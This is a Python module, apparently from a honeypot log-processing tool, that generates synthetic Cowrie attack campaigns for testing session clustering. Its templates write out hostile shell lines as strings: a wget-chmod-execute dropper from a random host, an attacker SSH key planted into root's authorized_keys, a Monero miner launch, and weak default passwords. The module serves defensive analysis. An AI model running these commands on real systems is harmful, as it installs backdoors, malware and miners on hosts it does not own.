"""Campaigns: one script (and often one planted SSH key or one download URL) replayed from many addresses.

This is what makes ``command_signature`` and ``ssh_key_fingerprint`` cluster sessions in real data, so the
generator reproduces it: every session of a campaign sends exactly the campaign's lines.
"""

from __future__ import annotations

import base64
import hashlib
import random
import re
import struct
from dataclasses import dataclass

from cowrieprocessor.synthetic.addresses import is_public_v4
from cowrieprocessor.synthetic.catalog import (
    CLIENTS,
    MALWARE_NAMES,
    RECON_LINES,
    TELNET_LINES,
    UNKNOWN_COMMANDS,
    ClientProfile,
)

_SPLIT = re.compile(r"\s*(?:;|&&|\|\||\|)\s*")


@dataclass(frozen=True)
class Line:
    """A line the bot types, with what Cowrie will log for it besides ``cowrie.command.input``."""

    text: str
    failed: tuple[str, ...]  # inputs of cowrie.command.failed (one per unknown command in the line)
    urls: tuple[str, ...]  # wget/curl URLs in the line


@dataclass(frozen=True)
class Campaign:
    name: str
    protocol: str  # "ssh" | "telnet"
    interactive: bool  # pty shell (client.size) vs. exec channel
    client: ClientProfile | None
    username: str
    password: str
    lines: tuple[Line, ...]
    planted_key: str | None  # OpenSSH public key line echoed into authorized_keys
    redirects: tuple[tuple[str, str], ...]  # (destfile, sha256 of content) written by shell redirection
    url_alive: bool  # downloads succeed (file_download) or fail (file_download.failed)
    payload_sha: str  # what the URL (or SFTP upload) delivers
    upload: str | None  # SFTP upload path, for campaigns that push their payload instead of fetching it


def parse_line(text: str) -> Line:
    failed, urls = [], []
    for part in _SPLIT.split(text.strip()):
        words = part.split()
        if not words:
            continue
        if words[0] in UNKNOWN_COMMANDS:
            failed.append(part if len(words) > 1 else part + " ")  # Cowrie's trailing space when no args
        if words[0].endswith("busybox"):
            words = words[1:]
        if words and words[0] in ("wget", "curl"):
            urls += [w for w in words[1:] if w.startswith("http")]
    return Line(text, tuple(failed), tuple(urls))


def _ssh_string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def ssh_public_key(rng: random.Random, comment: str) -> str:
    """A well-formed OpenSSH public key line (random key material, valid blob structure)."""
    if rng.random() < 0.6:
        modulus = b"\x00" + bytes([rng.randrange(128, 256)]) + rng.randbytes(255)
        blob = _ssh_string(b"ssh-rsa") + _ssh_string(b"\x01\x00\x01") + _ssh_string(modulus)
        kind = "ssh-rsa"
    else:
        blob = _ssh_string(b"ssh-ed25519") + _ssh_string(rng.randbytes(32))
        kind = "ssh-ed25519"
    return f"{kind} {base64.b64encode(blob).decode()} {comment}".rstrip()


def md5_fingerprint(key_line: str) -> str:
    blob = base64.b64decode(key_line.split()[1])
    return ":".join(f"{b:02x}" for b in hashlib.md5(blob).digest())  # noqa: S324 - Cowrie's format


def _host(rng: random.Random) -> str:
    while True:
        value = rng.getrandbits(32)
        if is_public_v4(value) and value & 0xFF not in (0, 255):
            return ".".join(str((value >> s) & 0xFF) for s in (24, 16, 8, 0))


def _client(rng: random.Random) -> ClientProfile:
    profiles = [p for p, _ in CLIENTS]
    return rng.choices(profiles, [w for _, w in CLIENTS])[0]


def make_campaigns(rng: random.Random, count: int = 14) -> list[Campaign]:
    """Draw ``count`` campaigns of the kinds seen on real sensors, each with its own key/URL/password."""
    kinds = ["keyplant", "dropper", "recon", "telnet", "keyplant", "dropper", "upload", "recon", "telnet"]
    out = []
    for i in range(count):
        kind = kinds[i % len(kinds)]
        host, name = _host(rng), rng.choice(MALWARE_NAMES)
        url = f"http://{host}/{name}"
        payload = f"{rng.getrandbits(256):064x}"
        password = rng.choice(("root", "admin", "123456", "P@ssw0rd", "3245gs5662d34", "qwerty123", "passw0rd"))
        key = None
        redirects: tuple[tuple[str, str], ...] = ()
        upload = None
        protocol, interactive = "ssh", rng.random() < 0.7
        if kind == "keyplant":
            key = ssh_public_key(rng, rng.choice(("mdrfckr", "", "root@localhost", "admin@server")))
            texts = [
                "cd ~; chattr -ia .ssh; lockr -ia .ssh",
                f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{key}">>/root/.ssh/authorized_keys && '
                "chmod -R go= ~/.ssh && cd ~",
                *rng.sample(RECON_LINES, 6),
            ]
            redirects = (("/root/.ssh/authorized_keys", hashlib.sha256((key + "\n").encode()).hexdigest()),)
        elif kind == "dropper":
            texts = [
                "uname -a; nproc",
                f"cd /tmp || cd /var/run || cd /mnt; wget {url}; chmod 777 {name}; ./{name}; rm -rf {name}",
            ]
        elif kind == "upload":
            upload = f"/tmp/{name}"  # noqa: S108 - a path in the attacker's script, not ours
            texts = [f"chmod +x {upload}; {upload} -o pool.minexmr.com:443"]
            interactive = False
        elif kind == "recon":
            texts = rng.sample(RECON_LINES, rng.randrange(3, 8))
        else:
            protocol, interactive = "telnet", True
            texts = [*TELNET_LINES[: rng.randrange(3, len(TELNET_LINES) + 1)], f"/bin/busybox wget {url}"]
        if not interactive:
            texts = ["; ".join(texts)]  # bots on an exec channel send one joined line
        out.append(
            Campaign(
                name=f"{kind}-{i}",
                protocol=protocol,
                interactive=interactive,
                client=_client(rng) if protocol == "ssh" else None,
                username="root",
                password=password,
                lines=tuple(parse_line(t) for t in texts),
                planted_key=key,
                redirects=redirects,
                url_alive=rng.random() < 0.6,
                payload_sha=payload,
                upload=upload,
            )
        )
    return out
